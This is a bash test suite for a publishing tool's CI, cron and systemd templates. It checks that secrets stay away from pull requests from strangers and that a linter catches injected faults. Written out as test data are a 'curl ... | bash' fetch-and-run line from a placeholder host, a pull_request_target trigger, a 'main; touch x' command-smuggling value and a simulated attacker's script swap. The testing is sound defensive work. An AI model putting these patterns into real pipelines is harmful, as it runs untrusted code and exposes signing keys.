# The templates for CI systems, cron and systemd: their text keeps the rules that keep a stranger's proposal away from keys, and
# their shell parts do what they say, against a real bare repository.
source "$(dirname "$0")/lib.sh"

cd "$PG_SOURCE/examples"
templates=(ci/github/*.yml ci/forgejo/*.yml ci/gitlab/.gitlab-ci.yml)
[ "${#templates[@]}" = 8 ] || fail "${#templates[@]} templates"
ci_templates() { /usr/bin/python3 "$PG_SOURCE/tests/scenarios/ci_templates.py" "$@"; }

step "C-02 C-06 secrets only where the protected branch is published, actions pinned, least permissions, nothing of a stranger in a script"
expect 0 ci_templates rules "${templates[@]}"
stdout_is ""

step "each of these rules notices its fault"
broken() {  # TEMPLATE SED-COMMAND WHAT
  mkdir -p "$T/broken/pages"
  local file=$T/broken/${1##*/}
  sed -E "$2" "$1" >"$file"
  ! cmp -s "$1" "$file" || fail "nothing changed: $2"
  expect 0 ci_templates rules "$file"
  says "$3"
}
broken ci/github/pull-request.yml 's/^  pull_request:/  pull_request_target:/' "a trigger that gives secrets to a stranger's proposal"
broken ci/github/pull-request.yml 's/^permissions: .*/permissions: read-all/' "no 'permissions: {}' at the top"
broken ci/github/pull-request.yml 's/^      PG_TOOLS_URL: .*/      PG_TOOLS_URL: ${{ secrets.PG_TOOLS_URL }}/' "a job for pull requests has secrets"
broken ci/github/pull-request.yml 's/^      PG_TOOLS_URL: .*/      PG_TOOLS_URL: ${{ vars.PG_TOOLS_URL }}/' "a request from a fork does not get"
broken ci/forgejo/pull-request.yml 's/^      PG_ROOT_SHA256: .*/      PG_ROOT_SHA256: ${{ vars.PG_ROOT_SHA256 }}/' "a request from a fork does not get"
broken ci/forgejo/publish.yml 's/^    runs-on: .*/&\n    environment: publish/' "Forgejo has no environments"
broken ci/forgejo/publish.yml 's/git clone -q --bare/git clone -q/' "secrets in a repository that others push branches to"
broken ci/gitlab/.gitlab-ci.yml 's/^  PG_ROOT_SHA256: .*//' "PG_ROOT_SHA256 is not in the file, and a fork's project has no variables of this one"
broken ci/gitlab/.gitlab-ci.yml 's/"\$CI_MERGE_REQUEST_PROJECT_URL.git"/origin/' "in a fork's project origin is the fork, and its own scripts run"
broken ci/gitlab/.gitlab-ci.yml 's/ && \$CI_COMMIT_BRANCH == \$CI_DEFAULT_BRANCH && \$PG_WATCH != "1"/ \&\& $PG_WATCH != "1"/' "publish: runs for another branch than the default one"
broken ci/github/pull-request.yml 's/base\.sha/head.sha/' "the proposal's own scripts run"
broken ci/github/pull-request.yml 's/"\$PROPOSED"/"${{ github.event.pull_request.head.ref }}"/' "an expression inside a shell script"
broken ci/github/publish.yml 's/contents: read/contents: write/' "permissions are not {'contents': 'read'}"
broken ci/github/publish.yml 's/^    environment: .*//' "secrets without the protected environment and branch"
broken ci/github/publish.yml 's/^    if: .*//' "secrets without the protected environment and branch"
broken ci/github/publish.yml 's/cancel-in-progress: false/cancel-in-progress: true/' "two publications may run at once"
broken ci/github/publish.yml 's/persist-credentials: false/persist-credentials: true/' "the checkout keeps its credentials"
broken ci/github/watch.yml 's/checkout@[0-9a-f]+/checkout@v4/' "is not checkout, pinned by its commit"
broken ci/forgejo/watch.yml 's|actions/checkout@|actions/setup-node@|' "is not checkout, pinned by its commit"
broken ci/forgejo/watch.yml 's/^    timeout-minutes.*//' "no time limit"
broken ci/gitlab/.gitlab-ci.yml 's/^  resource_group.*//' "two publications may run at once"
broken ci/gitlab/.gitlab-ci.yml 's/"\$CI_COMMIT_SHA"/"$CI_COMMIT_TITLE"/' "a stranger's words inside a shell script"
broken ci/gitlab/.gitlab-ci.yml 's/^    - bash operations.pgpublish.sh install/    - curl -s https:\/\/x.example\/i.sh | bash/' "a script from the network is run"

step "every command and option that the templates use is there"
used=$(grep -vE '^ *#|--target|install -m' pgpublish.sh | grep -oE '\bpg(publish|client) [a-z]+( [^|;]*)?')
[ "$(wc -l <<<"$used")" -ge 3 ] || fail "only: $used"
while read -r program command rest; do
  help=$("$program" "$command" --help 2>"$ERR") || fail "there is no '$program $command'"
  for word in $rest; do
    [[ $word != --* ]] || grep -qF -- "${word%%=*}" <<<"$help" || fail "'$program $command' has no $word"
  done
done <<<"$used"
for command in $(grep -ohE 'pgpublish\.sh [a-z]+' ci/*/*.yml ci/gitlab/.gitlab-ci.yml systemd/* | cut -d' ' -f2 | sort -u); do
  grep -qE "^  (.*\| )?$command( \|.*)?\)" pgpublish.sh || fail "pgpublish.sh has no '$command'"
done
expect 0 shellcheck pgpublish.sh

# --- The shell parts, against a real repository ------------------------------------------------------------------------
new_world
new_key mallory
printf 'abc one\n' >"$T/abc.txt"; printf 'abc two\n' >"$T/abc2.txt"
mkdir -p "$T/admin/operations"
install -m 644 pgpublish.sh "$T/admin/operations/"
git -C "$T/admin" add -A; git -C "$T/admin" commit -qm "Add the publisher's script"; git -C "$T/admin" push -q
git -C "$T/alice" pull -q --ff-only
expect 0 as alice pgsign -C "$T/alice" project create abc --yes
expect 0 as alice pgsign -C "$T/alice" release add abc 1.0.0 "$T/abc.txt" --yes
expect 0 as alice pgsign -C "$T/alice" push

export PG_ROOT_SHA256=$ROOT PG_TOOLS=$BIN
# job TEMPLATE JOB [NAME=VALUE...]: its scripts in a fresh checkout of main, as the forge's runner would run them.
job() {
  local template=$1 name=$2 script
  shift 2
  script=$(cd "$PG_SOURCE/examples" && ci_templates script "ci/$template" "$name")
  [ -n "$script" ] || fail "no script in $template"
  rm -rf "$T/checkout"; git clone -q "${HUB:-$T/hub.git}" "$T/checkout"
  (cd "$T/checkout" && as runner env "$@" bash -euo pipefail -c "$script")
}
propose() {  # BRANCH: what mallory's clone has becomes pull request 7
  git -C "$1" push -q --force "$T/hub.git" HEAD:refs/pull/7/head
  PROPOSED=$(git -C "$1" rev-parse HEAD)
}

step "the first publication by hand, then each forge's job publishes what is new"
export PG_TO=$T/site
key=$(cat "$T/home/online/config/pg/keys/online.key")
(cd "$T/alice" && expect 0 as online env PG_KEY="$T/home/online/config/pg/keys/online.key" bash operations/pgpublish.sh publish --first)
n=0
for template in github/publish.yml forgejo/publish.yml gitlab/.gitlab-ci.yml; do  # Forgejo's from a repository of its own
  n=$((n + 1))
  echo "$n" >"$T/abc2.txt"
  expect 0 as alice pgsign -C "$T/alice" release add abc "1.$n.0" "$T/abc2.txt" --yes
  expect 0 as alice pgsign -C "$T/alice" push
  tip=$(git -C "$T/hub.git" rev-parse main)
  expect 0 job $template publish PG_COMMIT="$tip" CI_COMMIT_SHA="$tip" PG_CONTENT_URL="$T/hub.git" PG_ONLINE_KEY="$key" GITHUB_ACTIONS=true
  says "published commit ${tip:0:8} to $T/site: timestamp $((n + 1))"
done
expect 0 job github/publish.yml publish PG_COMMIT=main PG_ONLINE_KEY="$key"
says "nothing to publish"

step "C-03 C-06 a pull request that changes scripts, workflows and a release: main's own script judges it, and no key signs there"
git clone -q "$T/hub.git" "$T/mallory"
printf '#!/bin/sh\necho "all is well" >"%s/ran"\n' "$T" >"$T/mallory/operations/pgpublish.sh"
mkdir -p "$T/mallory/.github/workflows"; echo 'on: push' >"$T/mallory/.github/workflows/evil.yml"
git -C "$T/mallory" add -A; git -C "$T/mallory" commit -qm 'Harmless'
rm "$T"/mallory/projects/ab/abc/files/abc/1.0.0/*
git -C "$T/mallory" add -A; git -C "$T/mallory" commit -qm '::set-output name=x::y'
propose "$T/mallory"
before=$(fingerprint "$T/site")
for template in github/pull-request.yml forgejo/pull-request.yml; do
  expect 10 job $template check NUMBER=7 PROPOSED="$PROPOSED" GITHUB_STEP_SUMMARY="$T/summary" GITHUB_ACTIONS=true
  says "is refused: projects/ab/abc/"
done
cp -r "$T/checkout/report.md" "$T/report.md"
expect 10 job gitlab/.gitlab-ci.yml check CI_MERGE_REQUEST_TARGET_BRANCH_NAME=main CI_MERGE_REQUEST_PROJECT_URL="$T/hub" CI_COMMIT_SHA="$PROPOSED" \
  GIT_ALTERNATE_OBJECT_DIRECTORIES="$T/hub.git/objects"
absent "$T/ran"
(cd "$T/checkout" && expect 4 as runner env GITHUB_EVENT_NAME=pull_request PG_ONLINE_KEY="$key" bash operations/pgpublish.sh publish)
says "this job is for a pull request"
[ "$(fingerprint "$T/site")" = "$before" ] || fail "the tree changed"
grep -q "refused" "$T/summary" || fail "no report"

step "C-03 in a fork's own project, where main is the proposal, main of the project that is asked is what judges"
git clone -q --bare "$T/mallory" "$T/fork.git"  # where main is the proposal
HUB=$T/fork.git expect 10 job gitlab/.gitlab-ci.yml check CI_MERGE_REQUEST_TARGET_BRANCH_NAME=main CI_MERGE_REQUEST_PROJECT_URL="$T/hub" CI_COMMIT_SHA="$PROPOSED"
says "is refused: projects/ab/abc/"
absent "$T/ran"

step "C-05 nothing in a commit is a command to the CI system: what is printed about it stands between stop and go"
expect 10 job github/pull-request.yml check NUMBER=7 PROPOSED="$PROPOSED" GITHUB_ACTIONS=true
token=$(sed -n '1s/^::stop-commands:://p' "$OUT")
[ "${#token}" = 32 ] || fail "no token: $token"
[ "$(tail -n 1 "$OUT")" = "::$token::" ] || fail "commands stay stopped"
! sed '1d;$d' "$OUT" | grep -q '^::' || fail "a command of a stranger"

step "a proposal that is right passes"
git clone -q "$T/hub.git" "$T/alice2"
expect 0 as alice pgsign -C "$T/alice2" release add abc 3.0.0 "$T/abc.txt" --yes
propose "$T/alice2"
expect 0 job github/pull-request.yml check NUMBER=7 PROPOSED="$PROPOSED"
[ "$(grep -c "^accepted " "$OUT")" -gt 3 ] || fail "not the whole history"
expect 0 job github/pull-request.yml check NUMBER=7 PROPOSED="$PROPOSED" PG_SITE_URL="$T/site"
[ "$(grep -c "^accepted " "$OUT")" = 1 ] || fail "more than what the request changes"
expect 1 job github/pull-request.yml check NUMBER=7 PROPOSED='main; touch x'
says "not a commit id: 'main; touch x'"

step "C-12 watch verifies the live tree as a client does, and fails in time"
expect 0 job forgejo/watch.yml watch PG_SITE_URL="$T/site"
expect 11 job github/watch.yml watch PG_SITE_URL="$T/site" PG_MIN_VALID=timestamp=100h
says "timestamp"
expect 3 job gitlab/.gitlab-ci.yml watch PG_SITE_URL="$T/nothing"

step "Pages: the state is one commit of a branch, which is replaced only when nobody else replaced it"
git -C "$T/hub.git" config receive.denyDeletes true
expect 1 job github/publish-pages.yml publish PG_COMMIT=main PG_ONLINE_KEY="$key"
says "origin has no branch pages; 'pages --first' makes it"
rm -rf "$T/checkout"; git clone -q "$T/hub.git" "$T/checkout"
(cd "$T/checkout" && expect 0 as runner env PG_ONLINE_KEY="$key" bash operations/pgpublish.sh pages --first)
first=$(git -C "$T/hub.git" rev-parse pages)
expect 0 job github/publish-pages.yml publish PG_COMMIT=main PG_ONLINE_KEY="$key"
[ "$(git -C "$T/hub.git" rev-parse pages)" = "$first" ] || fail "published twice"
expect 0 as alice pgsign -C "$T/alice2" push
expect 0 job github/publish-pages.yml publish PG_COMMIT=main PG_ONLINE_KEY="$key"
[ "$(git -C "$T/hub.git" rev-list --count pages)" = 1 ] || fail "the branch grows"
git clone -q --branch pages "$T/hub.git" "$T/pages"
expect 0 as visitor pgclient init "file://$T/pages" --root-sha256 "$ROOT"
expect 0 as visitor pgclient fetch abc latest -o "$T/got"
same_file "$T/got" "$T/abc.txt"
absent "$T/pages/.publish.lock"

step "C-03 the program comes from one whole commit id"
cd "$T"
expect 1 env PG_TOOLS="$T/tools" PG_TOOLS_URL="$T/hub.git" PG_TOOLS_COMMIT=main "$PG_SOURCE/examples/pgpublish.sh" install
says "PG_TOOLS_COMMIT must be a whole commit id, not 'main'"
expect 128 env PG_TOOLS="$T/tools" PG_TOOLS_URL="$T/hub.git" PG_TOOLS_COMMIT="$(printf '1%.0s' {1..40})" "$PG_SOURCE/examples/pgpublish.sh" install
absent "$T/tools"
mkdir -p "$T/tiny/cmake"; cp "$PG_SOURCE/CMakePresets.json" "$T/tiny/"
echo 'echo installed "$@"' >"$T/tiny/cmake/install_packages.sh"
cat >"$T/tiny/CMakeLists.txt" <<'CMAKE'
cmake_minimum_required(VERSION 3.25)
project(tiny NONE)
add_custom_target(pgpublish COMMAND ${CMAKE_COMMAND} -E make_directory bin COMMAND ${CMAKE_COMMAND} -E touch bin/pgpublish)
CMAKE
git init -q "$T/tiny"; git -C "$T/tiny" add -A; git -C "$T/tiny" commit -qm tiny; git -C "$T/tiny" config uploadpack.allowAnySHA1InWant true
commit=$(git -C "$T/tiny" rev-parse HEAD)
expect 0 env PG_TOOLS="$T/tools" PG_TOOLS_URL="$T/tiny" PG_TOOLS_COMMIT="$commit" "$PG_SOURCE/examples/pgpublish.sh" install
says "installed build"
[ -x "$T/tools/pgpublish" ] && [ "$(cat "$T/tools/commit")" = "$commit" ] || fail "not installed"
expect 0 env PG_TOOLS="$T/tools" PG_TOOLS_URL=/nowhere PG_TOOLS_COMMIT="$commit" "$PG_SOURCE/examples/pgpublish.sh" install

step "systemd and cron: the lines that set them up, as they are written, then what the units and the crontab run"
here() {  # the same lines for this user and below $T
  sed -E "s#/(usr/local/lib|etc|srv|var/lib)/content#$T/root/\\1/content#g; s#https://git.example.org/content.git#$T/hub.git#; s#PG_TOOLS=/usr/bin#PG_TOOLS=$BIN#
    s#-([og]) content#-\\1 $(id -un)#g; s#runuser -u content --##"
}
mkdir -p "$T/root/var/lib/content" "$T/setup"; cd "$T/setup"  # useradd makes the first one
cp "$PG_SOURCE/examples/pgpublish.sh" .
cp "$T/home/online/config/pg/keys/online.key" .
printf 'PG_ROOT_SHA256=%s\n' "$ROOT" >environment
sed -n 's/^#   //p' "$PG_SOURCE/examples/systemd/content-publish.service" | grep -v '^useradd ' | here >set-up.sh
[ "$(wc -l <set-up.sh)" = 7 ] || fail "other lines: $(cat set-up.sh)"
expect 0 as online env -u PG_ROOT_SHA256 -u PG_TO -u PG_TOOLS bash -euo pipefail set-up.sh
says "published commit"
[ "$(stat -c %a "$T/root/etc/content/online.key") $(stat -c %a "$T/root/etc/content/environment")" = "600 640" ] || fail "modes"
sed -n 's/^#   //p' "$PG_SOURCE/examples/systemd/crontab" | here >key.sh
expect 0 bash -euo pipefail key.sh
unset PG_ROOT_SHA256 PG_TO PG_TOOLS
here <"$PG_SOURCE/examples/systemd/crontab" | grep -v '^#' >crontab
expect 0 as online env $(grep -E '^PG_' crontab) sh -c "$(grep ' fetch ' crontab | cut -d' ' -f6-)"
says "nothing to publish"
expect 0 as online env $(grep -E '^PG_' crontab) sh -c "$(grep ' clean$' crontab | cut -d' ' -f6-)"
says "removed 0 files (0 bytes) that no publication of the last 7 days needs"
expect 0 as online env $(grep -E '^PG_' crontab) PG_SITE_URL="$T/root/srv/content" sh -c "$(grep ' watch$' crontab | cut -d' ' -f6-)"
if command -v systemd-analyze >/dev/null; then
  mkdir "$T/units"
  for unit in "$PG_SOURCE"/examples/systemd/content-*; do sed "s|/usr/local/lib/content/|$PG_SOURCE/examples/|; s|/usr/bin/pgpublish|$BIN/pgpublish|" "$unit" >"$T/units/${unit##*/}"; done
  expect 0 systemd-analyze verify --man=no "$T"/units/*.service "$T"/units/*.timer
  ! grep "$T/units" "$ERR" || fail "systemd has something to say"
else
  echo "skipped: systemd-analyze verify (systemd is not installed)"
fi
echo "templates: all steps done"
